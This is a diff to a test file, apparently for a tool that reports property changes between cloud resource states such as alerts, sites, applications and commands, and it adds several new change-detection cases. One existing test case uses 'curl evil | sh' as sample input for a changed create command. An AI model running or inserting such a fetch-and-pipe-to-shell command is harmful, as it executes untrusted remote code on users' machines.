@@ -74,6 +74,7 @@ describe("an input of a known type", () => {
       { criteria: { allOf: [{ threshold: 2000 }] } },
       "x criteria.allOf[].threshold (alert later)",
     ],
+    [alert, { windowSize: "PT1H30M" }, { windowSize: "PT5M" }, "x windowSize (alert later)"],
     [
       alert,
       { actions: { actionGroups: ["a", "b"] } },
@@ -127,6 +128,12 @@ describe("an input of a known type", () => {
     expect(changed(site, { identity: { type: "UserAssigned" } }, { identity: { type: "SystemAssigned" } })).toEqual([
       "unknown resource/unknown-property: x identity.type",
     ]);
+    expect(changed(application, {}, { api: { mappedClaimsEnabled: true } })).toEqual([
+      "unknown resource/unknown-property: x api.mappedClaimsEnabled",
+    ]);
+    expect(
+      changed(alert, { criteria: { allOf: [{ query: "a" }] } }, { criteria: { allOf: [{ query: "b" }] } }),
+    ).toEqual(["unknown resource/unknown-property: x criteria.allOf[].query"]);
     expect(changed(command, { create: "node ../publish.ts" }, { create: "curl evil | sh" })).toEqual([
       "unknown resource/unknown-property: x create",
     ]);
